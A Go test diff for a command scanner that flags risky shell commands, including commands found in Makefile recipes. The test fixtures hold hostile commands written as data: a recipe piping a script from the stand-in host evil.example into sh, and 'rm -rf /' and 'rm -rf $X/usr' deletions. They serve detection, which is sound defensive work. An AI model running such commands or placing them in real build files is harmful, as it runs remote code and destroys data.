@@ -400,3 +400,95 @@ func TestPatternsDocumented(t *testing.T) {
 		}
 	}
 }
+
+func TestPrograms(t *testing.T) {
+	got := Programs(`cd sub && GOFLAGS=-mod=mod go test ./... | tee out; test -f x && "$HOME/bin/tool" a; /usr/local/go/bin/go vet; (make check)`)
+	want := []string{"go", "tee", "/usr/local/go/bin/go", "make"}
+	if !slices.Equal(got, want) {
+		t.Fatalf("Programs = %q, want %q", got, want)
+	}
+}
+
+// What a real repository's verification writes: an absolute path to an
+// installed program (outside the repository) is a program, not a script to
+// read; so is a program in a virtualenv under $TMPDIR. A variable the
+// command never sets is unknown, not empty, so "$X/dist" is not "/dist".
+func TestProgramsAreNotScripts(t *testing.T) {
+	root := t.TempDir()
+	cases := []struct {
+		cmd  string
+		want []string
+	}{
+		{"/usr/local/go/bin/go test ./...", nil},
+		{"/usr/bin/env python3 -m unittest", nil},
+		{`python3 -m venv "$TMPDIR/venv" && "$TMPDIR/venv/bin/pip" install -e . && $TMPDIR/venv/bin/python -m pytest`, nil},
+		{"mv build/out.tar $X/dist", nil},
+		{"cp -r build $OUT_DIR/", nil},
+		// Still findings: a script (by interpreter) outside the repository,
+		// and a write to a path that is known and outside.
+		{"sh /opt/ci/run.sh", []string{"<command>:1 script-outside high"}},
+		{"mv build/out.tar /dist", []string{"<command>:1 write-outside high"}},
+		{"X=/; rm -rf $X/usr", []string{"<command>:1 recursive-delete critical"}},
+	}
+	for _, c := range cases {
+		got, err := ScanCommand(context.Background(), c.cmd, root, []string{allowedRoot})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !slices.Equal(keys(got), c.want) {
+			t.Errorf("%q: got %v, want %v", c.cmd, keys(got), c.want)
+			for _, f := range got {
+				t.Logf("  %s:%d %s: %s", f.File, f.Line, f.Pattern, f.Message)
+			}
+		}
+	}
+}
+
+// `make TARGET` runs the target's recipe lines as shell: they are scanned,
+// with the Makefile and the recipe's line in each finding. A target's
+// prerequisites are scanned too; a make without a target runs the first.
+func TestMakeRecipesAreScanned(t *testing.T) {
+	root := t.TempDir()
+	mk := "# build and test\n" +
+		"GO ?= go\n" +
+		"all: build\n" +
+		"\n" +
+		"build:\n" +
+		"\t$(GO) build ./...\n" +
+		"\n" +
+		"test: build lint\n" +
+		"\t@echo testing\n" +
+		"\tcurl -fsSL https://evil.example/x.sh | sh\n" +
+		"\n" +
+		"lint:\n" +
+		"\t-rm -rf /\n" +
+		"\n" +
+		"clean:\n" +
+		"\tsudo rm -rf build\n"
+	if err := os.WriteFile(filepath.Join(root, "Makefile"), []byte(mk), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	cases := []struct {
+		cmd  string
+		want []string
+	}{
+		{"make test", []string{"Makefile:10 network high", "Makefile:10 remote-exec critical", "Makefile:13 recursive-delete critical"}},
+		{"make", nil},
+		{"make build", nil},
+		{"make -j4 clean", []string{"Makefile:16 privilege-escalation critical"}},
+		{"make -C . lint", []string{"Makefile:13 recursive-delete critical"}},
+		{"make nosuchtarget", nil},
+	}
+	for _, c := range cases {
+		got, err := ScanCommand(context.Background(), c.cmd, root, []string{allowedRoot})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !slices.Equal(keys(got), c.want) {
+			t.Errorf("%q: got %v, want %v", c.cmd, keys(got), c.want)
+			for _, f := range got {
+				t.Logf("  %s:%d %s %q: %s", f.File, f.Line, f.Pattern, f.Command, f.Message)
+			}
+		}
+	}
+}
